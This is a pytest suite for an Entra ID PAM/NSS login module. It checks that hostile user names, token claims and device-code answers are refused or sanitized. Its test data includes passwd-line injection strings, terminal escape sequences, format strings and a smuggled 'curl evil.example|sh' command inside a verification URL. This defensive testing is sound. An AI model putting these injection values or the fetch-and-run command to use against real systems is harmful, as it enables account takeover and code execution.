"""Hostile names and hostile claims, end to end.

Names: a corpus (path traversal, control characters, homoglyphs, 256-byte names, root and other
local names, GUIDs, ':' '/' '..' newline and NUL look-alikes, upper case) through PAM (pamtester +
pam_wrapper: PAM_IGNORE from every entry point, no prompt, no request to the IdP) and through NSS
(real getent in a mount namespace: NOTFOUND from our module).

Claims: valid, signed tokens whose upn / preferred_username / name / roles / groups carry ':',
newlines, '%', ',', control bytes or 10 KB strings. A hostile user name is refused (never
PAM_IGNORE, which would hand the decision to the rest of the stack); hostile display names, roles
and groups never reach a passwd or group line unsanitized (every line getent prints keeps its
field count, no control bytes, gecos capped).
"""
import pathlib
import shutil
import subprocess
import time

import pytest

from conftest import BUILD, CLI, PAM_MODULE, PamStack, token_parts, write_config
from entra_fake import ADMIN_APP_ROLE, USER_APP_ROLE
from isolated import Isolated, q

CYR_A = "\u0430"     # Cyrillic small a, looks like Latin a
CYR_O = "\u043e"

HOSTILE_NAMES = [
    "../../etc/passwd", "../root@contoso.com", "..@contoso.com", "a/../b@contoso.com", "alice@contoso.com/..",
    "a/b@contoso.com", "alice@contoso.com/../../root",
    "ali\nce@contoso.com", "alice@contoso.com\n", "alice@contoso.com\nroot", "\x1b[2Jalice@contoso.com",
    "alice\t@contoso.com", "alice\r@contoso.com", "alice\x7f@contoso.com", "alice\x01@contoso.com",
    "alice%00@contoso.com", "alice\\0@contoso.com", "alice\\x00@contoso.com",
    CYR_A + "lice@contoso.com", "alice@cont" + CYR_O + "so.com", "caf\u00e9@contoso.com", "\uff41lice@contoso.com",
    "a" * 256, "a" * 244 + "@contoso.com", "a" * 53 + "@contoso.com",
    "root", "daemon", "nobody", "bin", "sshd", "aad_admins", "aad_users",
    "6e2d6a5c-7f3b-4a8e-9c41-2b5d8f0e1a37", "{6e2d6a5c-7f3b-4a8e-9c41-2b5d8f0e1a37}",
    "alice:x@contoso.com", "alice@contoso.com:0:0", "alice,bob@contoso.com", "alice bob@contoso.com",
    "alice@contoso.com:x:0:0::/root:/bin/bash",
    "ALICE@CONTOSO.COM", "Alice@contoso.com", "alice@Contoso.com",
    "alice@contoso.com.evil.example", "alice@evil.example", "alice@@contoso.com", "@contoso.com", "alice@",
    " alice@contoso.com", "alice@contoso.com ", "-alice@contoso.com", ".alice@contoso.com", "alice@.contoso.com",
    "%u@contoso.com", "alice*@contoso.com", "+", "-", "*", "0", "1000000001",
]
# A local account whose name looks like a directory name: the files own it, we never answer for it.
LOCAL_LOOKALIKE = "eltestlocal@contoso.com"


def ids(n):
    return repr(n)[:48]


@pytest.fixture
def stacks(tmp_path, config):
    alone = PamStack(tmp_path / "alone", service="hostile-alone").write([
        f"auth required {PAM_MODULE} config={config}",
        f"account required {PAM_MODULE} config={config}",
    ])
    then_permit = PamStack(tmp_path / "permit", service="hostile-permit").write([
        f"auth sufficient {PAM_MODULE} config={config}", "auth required pam_permit.so",
        f"account sufficient {PAM_MODULE} config={config}", "account required pam_permit.so",
        f"session optional {PAM_MODULE} config={config}", "session required pam_permit.so",
    ])
    return alone, then_permit


def test_hostile_names_through_pam(stacks, fake):
    """PAM_IGNORE from auth, account and session for every hostile name: alone, the stack fails
    (PAM_IGNORE is never success); followed by pam_permit, it succeeds; our module never prompts,
    never says 'Entra', never asks the IdP."""
    alone, then_permit = stacks
    fake.clear_requests()
    bad = []
    for name in HOSTILE_NAMES:
        r1 = alone.run(name, ops=("authenticate",), stdin="x\n" * 3, timeout=30)
        r2 = then_permit.run(name, ops=("authenticate", "acct_mgmt", "open_session", "close_session"),
                             stdin="x\n" * 3, timeout=30)
        out = r1.stdout + r1.stderr + r2.stdout + r2.stderr
        if r1.returncode == 0 or r2.returncode != 0 or "Entra" in out or "sign in" in out.lower():
            bad.append((name, r1.returncode, r2.returncode, out[-300:]))
    assert not bad, bad
    assert fake.requests() == [], "no hostile name reached the IdP"


def nss_iso(tmp_path, config_text, extra_passwd=""):
    iso = Isolated(tmp_path / "iso", BUILD)
    iso.add_etc("entra-login.conf", config_text)
    iso.add_etc("passwd", pathlib.Path("/etc/passwd").read_text() + extra_passwd)
    return iso


def iso_env():
    import os
    from conftest import asan_preload
    env = dict(os.environ)
    pre = asan_preload()
    if pre:
        env["LD_PRELOAD"] = ":".join(pre)
        env["ASAN_OPTIONS"] = "detect_leaks=0"
    return env


def test_hostile_names_through_nss(tmp_path, config, fake):
    """getent -s entra (our module only) answers NOTFOUND (exit 2) for every hostile name, in
    passwd, group and shadow; a directory-looking local account is the files' alone."""
    iso = nss_iso(tmp_path, config.read_text(),
                  f"{LOCAL_LOOKALIKE}:x:4243:4243:local:/home/eltestlocal:/bin/sh\n")
    names = [n for n in HOSTILE_NAMES if n and "\n" not in n] + [LOCAL_LOOKALIKE]
    script = "".join(f"for db in passwd group shadow; do getent -s entra $db -- {q(n)}; echo \"@@$?\"; done\n"
                     for n in names)
    script += f"getent passwd -- {q(LOCAL_LOOKALIKE)}; echo \"@@$?\"\n"
    p = iso.run(script, timeout=120, env=iso_env())
    assert "AddressSanitizer" not in p.stderr and "runtime error" not in p.stderr, p.stderr
    lines = p.stdout.splitlines()
    codes = [line for line in lines if line.startswith("@@")]
    assert len(codes) == 3 * len(names) + 1, p.stdout + p.stderr
    # Our two role groups are ours to answer by name: the only successes expected.
    expect_ok = {("aad_admins", "group"), ("aad_users", "group")}
    wrong = [(n, db, c) for (n, db), c in zip([(n, db) for n in names for db in ("passwd", "group", "shadow")],
                                                codes) if (c == "@@0") != ((n, db) in expect_ok)]
    assert not wrong, wrong
    assert codes[-1] == "@@0" and lines[-2].startswith(f"{LOCAL_LOOKALIKE}:x:4243:"), lines[-3:]
    answers = [line for line in lines if not line.startswith("@@")]
    assert [a.split(":")[0] for a in answers] == ["aad_admins", "aad_users", LOCAL_LOOKALIKE], answers


def test_local_lookalike_name_ignored_by_pam(tmp_path, config, fake):
    """A local account named like a directory user: pam_entra leaves it to the stack (checked
    against the namespace's /etc/passwd, where the account exists)."""
    iso = nss_iso(tmp_path, config.read_text(), f"{LOCAL_LOOKALIKE}:x:4243:4243:local:/home/x:/bin/sh\n")
    stack = PamStack(tmp_path / "pam-local", service="hostile-local").write([
        f"auth sufficient {PAM_MODULE} config={config}", "auth required pam_permit.so"])
    fake.clear_requests()
    p = iso.run(f"echo | pamtester -v {stack.service} {q(LOCAL_LOOKALIKE)} authenticate", env=stack.env())
    assert p.returncode == 0, p.stdout + p.stderr
    assert "Entra" not in p.stdout + p.stderr
    assert fake.requests() == []


# ---------------------------------------------------------------- hostile claims

BIG = "A" * 10000    # 10 KB: a whole token is capped at 16 KB (EL_TOKEN_MAX)
HOSTILE_UPNS = [
    "alice:x@contoso.com", "alice@contoso.com\n", "alice\n@contoso.com", "alice%0a@contoso.com",
    "alice,bob@contoso.com", "alice@contoso.com:0:0:root", "../alice@contoso.com", "a" * 10240 + "@contoso.com",
    CYR_A + "lice@contoso.com", "alice@contoso.com\x00", "alice@contoso.com ", "alice@contoso.com/..",
]


@pytest.fixture
def token_stack(pam_stack, config):
    return pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=token",
                            f"account required {PAM_MODULE} config={config}",
                            "auth required pam_permit.so"])


def db_bytes(state_dir):
    p = state_dir / "users.db"
    return p.read_bytes() if p.exists() else b""


def test_hostile_user_name_claims_are_refused(token_stack, fake, state_dir):
    """A correctly signed token for alice's login whose upn (v1) or preferred_username (v2) is not
    a clean directory name: refused with PAM_AUTH_ERR, never PAM_IGNORE (the pam_permit after our
    required line would then let it in), nothing recorded. One fake for all cases (one loop)."""
    before = db_bytes(state_dir)
    bad = []
    for claim, kind in (("upn", "access_v1"), ("preferred_username", "access_v2")):
        for upn in HOSTILE_UPNS:
            tok = fake.mint(kind, upn=upn, roles=[ADMIN_APP_ROLE])
            assert fake.decode(tok)[1].get(claim) == upn, "the minted token carries the hostile value"
            res = token_stack.run("alice@contoso.com", ops=("authenticate", "acct_mgmt"), stdin=token_parts(tok))
            out = res.stdout + res.stderr
            if res.returncode == 0 or "successfully" in out or "Authentication failure" not in out:
                bad.append((claim, upn[:40], res.returncode, out[-200:]))
    assert not bad, bad
    assert db_bytes(state_dir) == before


def test_hostile_preferred_username_in_id_token_refused(pam_stack, config, fake, state_dir):
    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
    for upn in ("alice:x@contoso.com", "alice@contoso.com\nroot", "a" * 10240 + "@contoso.com"):
        fake.auto("approve", upn=upn, roles=[ADMIN_APP_ROLE])
        res = pam_stack.run("alice@contoso.com", stdin="\n")
        # Refused: AUTH_ERR, or AUTHINFO_UNAVAIL when the token endpoint's answer is too big to
        # take (10 KB names); never success, never PAM_IGNORE (pam_permit follows).
        assert res.returncode != 0, res.stdout + res.stderr
        assert "Authentication failure" in res.stderr or "cannot retrieve" in res.stderr, res.stderr
    assert db_bytes(state_dir) == b""


# A devicecode answer from a hostile or broken IdP: the user code and URL would be printed on
# the user's terminal ("open URL and enter the code CODE"). Each must be refused before any
# text reaches the user, and no token request follows.
HOSTILE_DEVICECODE = {
    "http-uri": dict(verification_uri="http://evil.example/login"),
    "uri-escape": dict(verification_uri="https://evil.example/\x1b[2J\x1b]0;pwned\x07"),
    "uri-space": dict(verification_uri="https://microsoft.com/devicelogin and run curl evil.example|sh"),
    "uri-overlong": dict(verification_uri="https://evil.example/" + "a" * 300),
    "code-escape": dict(user_code="ABC\x1b[2JDEF"),
    "code-newline": dict(user_code="ABC\nPassword:"),
    "code-space": dict(user_code="ABC DEF"),
    "code-overlong": dict(user_code="A" * 33),
    "code-empty": dict(user_code=""),
}


def devicecode_answer(**over):
    body = {"user_code": "ABCD-1234", "device_code": "DAQABIQEAAAD" + "x" * 400,
            "verification_uri": "https://microsoft.com/devicelogin", "expires_in": 900, "interval": 5,
            "message": "To sign in, open https://evil.example/login and enter the code EVIL."}
    body.update(over)
    return body


@pytest.mark.parametrize("case", sorted(HOSTILE_DEVICECODE))
def test_hostile_devicecode_answer_refused(pam_stack, config, fake, case):
    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
    fake.fault("devicecode", "status", status=200, body=devicecode_answer(**HOSTILE_DEVICECODE[case]))
    res = pam_stack.run("alice@contoso.com", stdin="\n")
    out = res.stdout + res.stderr
    assert res.returncode != 0, out
    assert "enter the code" not in out and "evil" not in out and "\x1b" not in out, out
    assert "Press Enter" not in out, out
    assert fake.requests("token") == []


def test_devicecode_answer_at_the_limits_is_shown(pam_stack, config, fake):
    # The boundary of the checks above: a 32-character code of letters, digits and '-', and a
    # 256-byte https URL, are shown as they are (then the fake does not know the code).
    code, uri = "ABCD-efgh-2345-" + "Z" * 17, "https://microsoft.com/" + "d" * 234
    assert len(code) == 32 and len(uri) == 256
    pam_stack.write([f"auth required {PAM_MODULE} config={config} mode=device", "auth required pam_permit.so"])
    fake.fault("devicecode", "status", status=200, body=devicecode_answer(user_code=code, verification_uri=uri))
    res = pam_stack.run("alice@contoso.com", stdin="\n")
    out = res.stdout + res.stderr
    assert res.returncode != 0, out
    assert "open %s and enter the code %s" % (uri, code) in out, out


def test_name_becoming_local_during_login_is_refused_not_ignored(tmp_path, pam_stack, fake, state_dir):
    """A local account with the same name appears while the user signs in (after the module's
    first look, before the binding is written): the login is refused (PAM_AUTH_ERR), never
    PAM_IGNORE, which would leave the decision to pam_permit below."""
    user = "alice@contoso.com"
    passwd = tmp_path / "passwd"
    shutil.copy("/etc/passwd", passwd)
    fake.set_interval(2)    # test override: one pending poll leaves 2 s to add the local account
    conf = write_config(tmp_path / "c.conf", fake, state_dir)
    pam_stack.write([f"auth required {PAM_MODULE} config={conf} mode=device", "auth required pam_permit.so"])
    pam_stack.prefix = lambda argv: ["unshare", "--mount", "sh", "-c",
                                     'mount --make-rprivate / && mount --bind "$0" /etc/passwd && exec "$@"',
                                     str(passwd), *argv]
    fake.auto("approve", upn=user, after_polls=1, roles=[ADMIN_APP_ROLE])
    p = pam_stack.popen(user)
    try:
        p.stdin.write("\n")
        p.stdin.flush()
        deadline = time.monotonic() + 20
        while not fake.requests("token"):
            assert time.monotonic() < deadline and p.poll() is None, "no token poll"
            time.sleep(0.05)
        with open(passwd, "a") as f:
            f.write(user + ":x:4321:4321::/nonexistent:/usr/sbin/nologin\n")
        out, err = p.communicate(timeout=60)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    assert len(fake.requests("token")) == 2
    assert p.returncode != 0, out + err
    assert "Authentication failure" in err, err
    assert db_bytes(state_dir) == b""


HOSTILE_DISPLAY = [
    "Eve:x:0:0:root:/root:/bin/bash", "Eve\nroot:x:0:0::/root:/bin/bash", "Eve\r\n\x1b[31mred\x1b[0m",
    "%s%n%x%p 100%", "Doe, John, Jr.", "Eve\x00hidden", BIG, "\u00c9ve \u0430 \u202eevil",
]


def getent_lines(tmp_path, config, *queries):
    iso = nss_iso(tmp_path, config.read_text())
    p = iso.run("".join(f"getent {qq}; echo '@@'$?\n" for qq in queries), env=iso_env(), timeout=60)
    assert "AddressSanitizer" not in p.stderr and "runtime error" not in p.stderr, p.stderr
    out, cur = [], []
    for line in p.stdout.split("\n")[:-1]:
        if line.startswith("@@"):
            out.append((int(line[2:]), cur))
            cur = []
        else:
            cur.append(line)
    return out


def check_line(line, fields):
    parts = line.split(":")
    assert len(parts) == fields, line
    assert all(ord(c) >= 0x20 and ord(c) != 0x7f for c in line), repr(line)
    return parts


def test_hostile_display_roles_groups_never_reach_a_line_unsanitized(tmp_path, token_stack, fake, config):
    users = []
    for i, display in enumerate(HOSTILE_DISPLAY):
        user = f"h{i}@contoso.com"
        # At most one 10 KB value per token: a whole token is capped at 16 KB.
        roles = ["x:y", "a\nb", USER_APP_ROLE + "\n", ADMIN_APP_ROLE + ",x", "%n%n", "r" * 500]
        roles.append(ADMIN_APP_ROLE if i % 2 else USER_APP_ROLE)
        groups = ["g:1", "g\n2", "g,3", "%s"] + ["%08d-0000-4000-8000-000000000000" % k for k in range(10)]
        if display == BIG:
            roles, groups = roles[-1:], []
        else:
            (roles if i % 2 else groups).insert(0, BIG)
        tok = fake.mint("access_v2", upn=user, name=display, roles=roles, groups=groups)
        assert len(tok) <= 16384
        res = token_stack.run(user, ops=("authenticate", "acct_mgmt"), stdin=token_parts(tok, 1000))
        if "\x00" in display:
            # JSON "\u0000": jansson refuses NUL in strings, so the claims do not parse: refused.
            assert res.returncode != 0 and "Authentication failure" in res.stderr
            continue
        assert res.returncode == 0, res.stdout + res.stderr
        users.append((user, display, i % 2 == 1))
    # Roles that only look like ours grant nothing: a token whose only roles are decoys is refused.
    decoy = fake.mint("access_v2", upn="decoy@contoso.com",
                      roles=[ADMIN_APP_ROLE + ",x", USER_APP_ROLE + "\n", " " + ADMIN_APP_ROLE, "x:" + USER_APP_ROLE])
    res = token_stack.run("decoy@contoso.com", ops=("authenticate", "acct_mgmt"), stdin=token_parts(decoy, 1000))
    assert res.returncode != 0
    res = getent_lines(tmp_path, config, *[f"passwd {u}" for u, _, _ in users], "group aad_admins",
                       "group aad_users", "-s entra passwd", "-s entra group", "passwd decoy@contoso.com")
    for (user, display, admin), (rc, lines) in zip(users, res):
        assert rc == 0 and len(lines) == 1, (user, lines)
        parts = check_line(lines[0], 7)
        assert parts[0] == user and len(parts[4].encode()) <= 256
        assert parts[5] == f"/home/{user}" and parts[6] == "/bin/bash"
    rc, admins = res[len(users)]
    rc2, members = res[len(users) + 1]
    assert rc == 0 and rc2 == 0
    admin_members = check_line(admins[0], 4)[3].split(",")
    assert sorted(admin_members) == sorted(u for u, _, a in users if a)
    assert sorted(check_line(members[0], 4)[3].split(",")) == sorted(u for u, _, _ in users)
    rc, all_pw = res[len(users) + 2]
    assert rc == 0 and len(all_pw) == len(users), all_pw
    for line in all_pw:
        check_line(line, 7)
    rc, all_gr = res[len(users) + 3]
    for line in all_gr:
        check_line(line, 4)
    rc, decoy_lines = res[len(users) + 4]
    uid_line = decoy_lines[0] if decoy_lines else ""
    assert "decoy" not in subprocess.run([str(CLI), "--config", str(config), "users"], capture_output=True,
                                         text=True).stdout, "a role-less user is not recorded"
    assert rc == 0 and uid_line.startswith("decoy@contoso.com:*:"), "provisional entry only"


def test_long_config_values_do_not_crash(tmp_path, fake, state_dir):
    """Root-owned config, but loaded into every process by NSS: oversized values are errors, not
    crashes (a 2.2 KB 'domains' entry overflowed a stack buffer: fixed in conf.c)."""
    for key, value in (("domains", "a" * 2300 + ".com"), ("audiences", "x" * 4000), ("home", "/" + "h" * 4000),
                       ("static_admins", ",".join(["a@contoso.com"] * 64)), ("authority", "https://" + "a" * 4000)):
        conf = write_config(tmp_path / "long.conf", fake, state_dir, **{key: value})
        res = subprocess.run([str(CLI), "--config", str(conf), "users"], capture_output=True, text=True, timeout=30)
        assert res.returncode in (0, 2), (key, res.returncode, res.stderr[-500:])
        assert "AddressSanitizer" not in res.stderr and "overflow" not in res.stderr, (key, res.stderr[-500:])
